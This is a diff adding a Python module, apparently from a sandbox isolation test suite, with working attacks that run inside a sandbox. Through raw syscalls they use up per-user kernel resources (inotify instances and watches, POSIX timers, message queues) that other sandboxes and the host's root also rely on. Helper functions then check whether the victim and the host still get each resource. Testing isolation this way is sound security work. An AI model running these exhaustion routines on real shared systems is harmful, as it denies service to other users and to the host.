@@ -1,0 +1,76 @@
+"""Attacks on what the kernel counts by user, and so for all sandboxes and the host's root together.
+
+Runs inside a sandbox. What is taken is held, so that the victim and the host are asked while it is. `is_left` runs
+in the victim and on the host.
+"""
+
+import ctypes
+import os
+
+from .attacker import Target, attack, call
+
+_SOME = 100_000
+_INOTIFY_INIT1, _INOTIFY_ADD_WATCH, _TIMER_CREATE, _TIMER_DELETE, _MQ_OPEN, _MQ_UNLINK = 294, 254, 222, 226, 240, 241
+_held = []
+
+
+def _take(act) -> str:
+    """How many of it one sandbox gets, and the errno at the end."""
+    try:
+        for _ in range(_SOME):
+            _held.append(act())
+    except OSError as error:
+        return os.strerror(error.errno)
+    return "no end"
+
+
+@attack(gain="all inotify instances of root and of all sandboxes", seen=[16, "Too many open files"])
+def use_up_inotify_instances(target: Target):
+    before = len(_held)
+    end = _take(lambda: call(_INOTIFY_INIT1, 0))
+    return [len(_held) - before, end]
+
+
+@attack(gain="all inotify watches", seen="No space left on device")
+def use_up_inotify_watches(target: Target):
+    paths = (os.path.join(folder, name) for folder, _, names in os.walk("/") for name in names)
+    here = next(one for one in _held if os.readlink(f"/proc/self/fd/{one}") == "anon_inode:inotify")
+    for path in paths:
+        try:
+            call(_INOTIFY_ADD_WATCH, here, os.fsencode(path), 0x2)
+        except (FileNotFoundError, PermissionError):
+            continue
+        except OSError as error:
+            return os.strerror(error.errno)
+    return "no end"
+
+
+@attack(gain="all timers and queued signals", seen=[1024, "Resource temporarily unavailable"])
+def use_up_timers_and_queued_signals(target: Target):
+    before = len(_held)
+    end = _take(lambda: call(_TIMER_CREATE, 1, None, ctypes.byref(ctypes.c_int())))
+    return [len(_held) - before, end]
+
+
+@attack(gain="all bytes of message queues", seen=[0, "Too many open files"])
+def use_up_message_queues(target: Target):
+    before = len(_held)
+    end = _take(lambda: call(_MQ_OPEN, b"queue%d" % len(_held), os.O_CREAT | os.O_RDWR, 0o600, None))
+    return [len(_held) - before, end]
+
+
+def is_left() -> bool:
+    """Whether the caller still gets one of each. Message queues are for the host: sandboxes have none."""
+    os.close(call(_INOTIFY_INIT1, 0))
+    timer = ctypes.c_int()
+    call(_TIMER_CREATE, 1, None, ctypes.byref(timer))
+    call(_TIMER_DELETE, timer.value)
+    return True
+
+
+def is_left_on_the_host() -> bool:
+    """The same for root, with a message queue."""
+    name = b"pagurus-attacks-%d" % os.getpid()
+    os.close(call(_MQ_OPEN, name, os.O_CREAT | os.O_RDWR, 0o600, None))
+    call(_MQ_UNLINK, name)
+    return is_left()
